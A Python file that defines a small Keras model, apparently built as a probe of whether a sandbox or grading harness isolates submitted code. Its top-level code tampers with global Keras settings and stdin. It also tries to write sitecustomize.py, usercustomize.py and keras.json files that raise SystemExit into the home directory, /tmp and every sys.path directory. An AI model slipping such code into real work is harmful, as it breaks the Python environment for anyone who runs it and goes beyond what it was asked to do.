import fcntl
import os
import sys

import keras
from keras import layers


def attempt(what, act):
    """Says what was got, and nothing where it was refused."""
    try:
        got = act()
    except Exception:
        return
    print("GOT", what, str(got)[:200])


os.environ["EF_LEFT"] = "left"
sys.left_behind = True
keras.config.set_floatx("float64")
keras.layers.Dense.units = 1
fcntl.fcntl(0, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND)
for place in (".", "/tmp", os.environ["HOME"], *sys.path, os.path.expanduser("~/.keras")):
    for name in ("ef_left.py", "sitecustomize.py", "keras.json", "usercustomize.py"):
        attempt(name, lambda: open(f"{place}/{name}", "w").write("raise SystemExit('GOT')"))


def build_model():
    model = keras.Sequential()
    model.add(keras.Input(shape=(6912,)))
    model.add(layers.Dense(8))
    model.add(layers.Activation("softmax"))
    return model
